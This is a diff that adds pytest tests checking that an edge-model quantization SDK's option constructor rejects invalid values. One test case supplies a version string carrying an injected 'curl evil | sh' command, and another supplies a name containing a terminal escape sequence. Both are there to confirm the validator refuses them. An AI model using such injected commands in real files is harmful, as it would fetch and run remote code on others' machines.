@@ -9,6 +9,7 @@ import pytest
 from PIL import Image
 
 from edgesdk import Bundle
+from edgesdk import errors
 from edgesdk.errors import CalibrationError, ConversionError, EdgeSDKError, InputError, ValidationFailed
 from support import DIGITS_ONNX, DIGITS_TOML, quantize
 
@@ -362,3 +363,39 @@ def test_max_drop_gate_passes_at_its_bound(tmp_path, digits_npz):
     m = quantize(DIGITS_ONNX, digits_npz, tmp_path / "b", targets=["onnx"], samples=40, val_samples=30).manifest
     v = m["validation"]["onnxruntime-int8"]
     assert v["passed"] is True and v["accuracy_drop_points"] <= v["max_drop_points"] == 1.0
+
+
+# -- QuantizeOptions: checked where it is built -------------------------------------------------------------
+
+@pytest.mark.parametrize("kwargs, error, match", [
+    ({"targets": ["onnx", "coreml"]}, "ConversionError", "unknown target 'coreml'; targets are tflite, openvino, onnx"),
+    ({"targets": "onnx"}, "ConversionError", "a list of target names"),
+    ({"targets": ["onnx", "onnx"]}, "ConversionError", "more than once: onnx"),
+    ({"samples": 0}, "CalibrationError", "samples must be at least 1"),
+    ({"samples": 2.5}, "CalibrationError", "samples must be at least 1"),
+    ({"val_samples": 0}, "CalibrationError", "val_samples must be at least 1"),
+    ({"max_drop": float("nan")}, "ConversionError", "max_drop must be a finite number of points"),
+    ({"max_drop": "1"}, "ConversionError", "max_drop must be a finite number of points"),
+    ({"max_error_cap": 0}, "ConversionError", "max_error_cap must be a positive share"),
+    ({"tflite_io": "fp16"}, "ConversionError", "tflite_io must be one of float, int8"),
+    ({"version": "1\nRUN curl evil | sh"}, "ConversionError", "no newlines or control characters"),
+    ({"name": "digits\x1b[2J"}, "ConversionError", "name .* printable"),
+    ({"input_shapes": {"x": (1, 0, 8)}}, "ConversionError", r"input_shapes\['x'\] must be a tuple of positive"),
+])
+def test_quantize_options_refuse_bad_values_at_construction(kwargs, error, match):
+    from edgesdk_converters.options import QuantizeOptions
+
+    with pytest.raises(getattr(errors, error), match=match):
+        QuantizeOptions(**kwargs)
+
+
+def test_quantize_takes_options_and_keyword_shortcuts_and_names_an_unknown_one(tmp_path):
+    from edgesdk_converters.options import QuantizeOptions
+    from edgesdk_converters.quantize import quantize
+
+    opts = QuantizeOptions(samples=10, targets=["onnx"])
+    assert opts.merged(seed=3) == QuantizeOptions(samples=10, targets=("onnx",), seed=3)
+    with pytest.raises(TypeError, match="unknown option.*sampels.*options are"):
+        quantize("model.onnx", "calib", tmp_path / "b", opts, sampels=10)
+    with pytest.raises(ConversionError, match="tflite_io"):  # before the (missing) source is opened
+        quantize(tmp_path / "missing.onnx", tmp_path / "calib", tmp_path / "b", tflite_io="int4")
